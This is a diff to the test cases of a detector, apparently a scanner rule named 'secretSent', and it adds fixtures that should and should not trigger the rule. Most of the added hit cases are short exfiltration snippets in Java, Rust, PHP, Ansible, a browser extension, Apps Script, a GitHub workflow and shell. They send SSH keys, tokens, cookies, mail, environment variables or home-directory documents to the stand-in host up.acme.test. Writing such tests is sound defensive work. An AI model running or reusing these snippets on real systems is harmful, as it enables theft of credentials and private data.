@@ -20,6 +20,53 @@ ruleCases(secretSent, {
       text: 'import keyring, requests\nrequests.post("https://up.acme.test/in", data={"x": keyring.get_password("library", "pin")})\n',
     },
     {
+      name: 'a path in pieces and a connection, in Java',
+      path: 'A.java',
+      severity: 'high',
+      text: 'class A { void a() throws Exception {\nvar p = Paths.get(System.getProperty("user.home"), ".m2", "settings.xml");\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://up.acme.test/r")).POST(HttpRequest.BodyPublishers.ofFile(p)).build(), null);\n} }\n',
+    },
+    {
+      name: 'the environment through a socket, in Rust',
+      path: 'build.rs',
+      severity: 'high',
+      text: 'fn main() {\nlet v: Vec<String> = env::vars().map(|(k, v)| format!("{k}={v}")).collect();\nlet mut s = TcpStream::connect("up.acme.test:80").unwrap();\ns.write_all(v.join("\\n").as_bytes());\n}\n',
+    },
+    {
+      name: 'the settings of an application, in PHP',
+      path: 'a.php',
+      severity: 'high',
+      text: "<?php\nHttp::timeout(4)->post('https://up.acme.test/m', ['c' => config('database.connections')]);\n",
+    },
+    {
+      name: 'a file that a tool of many machines looks up',
+      path: 'site.yml',
+      severity: 'high',
+      text: "- hosts: all\n  tasks:\n    - uri: {url: 'https://up.acme.test/h', method: POST, body: \"{{ lookup('file', '~/.ssh/id_rsa') }}\"}\n",
+    },
+    {
+      name: 'what an extension gets from its browser',
+      path: 'background.js',
+      severity: 'high',
+      text: "chrome.cookies.getAll({}, (all) => { fetch('https://up.acme.test/c', { method: 'POST', body: JSON.stringify(all) }); });\n",
+    },
+    {
+      name: 'the mailbox, by a script of a spreadsheet',
+      path: 'Code.gs',
+      severity: 'high',
+      text: "const t = GmailApp.search('invoice').map((one) => one.getMessages()[0].getPlainBody());\nUrlFetchApp.fetch('https://up.acme.test/m', { method: 'post', payload: t.join() });\n",
+    },
+    {
+      name: 'a secret of a workflow for another service',
+      path: '.github/workflows/a.yml',
+      text: 'on: push\njobs:\n  a:\n    steps:\n      - run: curl -s -d "t=$T" https://up.acme.test/r\n        env:\n          T: ${{ secrets.NPM_TOKEN }}\n',
+    },
+    {
+      name: 'an archive of documents',
+      path: 'a.sh',
+      severity: 'high',
+      text: 'find ~ -name "*.pdf" | tar czf /tmp/i.tgz -T -\ncurl -s -F f=@/tmp/i.tgz https://up.acme.test/u\n',
+    },
+    {
       name: 'a token of a signed-in program in an address',
       path: 'a.sh',
       text: 'T=$(gh auth token)\ncurl -s "https://up.acme.test/x?t=$T"\n',
@@ -73,6 +120,26 @@ ruleCases(secretSent, {
     },
   ],
   misses: [
+    {
+      name: 'a path that is only named',
+      path: 'A.java',
+      text: 'class A { Path p = Paths.get(home, ".m2", "settings.xml"); }\n',
+    },
+    {
+      name: 'a request without anything private',
+      path: 'a.rs',
+      text: 'fn main() { reqwest::blocking::Client::new().post("https://up.acme.test/c").body("ready").send(); }\n',
+    },
+    {
+      name: 'a secret of a workflow for its own service',
+      path: '.github/workflows/a.yml',
+      text: 'on: push\njobs:\n  a:\n    steps:\n      - run: curl -s -d "t=$T" https://registry.npmjs.org/r\n        env:\n          T: ${{ secrets.NPM_TOKEN }}\n',
+    },
+    {
+      name: 'an archive that stays',
+      path: 'a.sh',
+      text: 'tar czf /tmp/i.tgz ~/Documents\n',
+    },
     {
       name: 'a token that goes to its own service',
       path: 'a.sh',
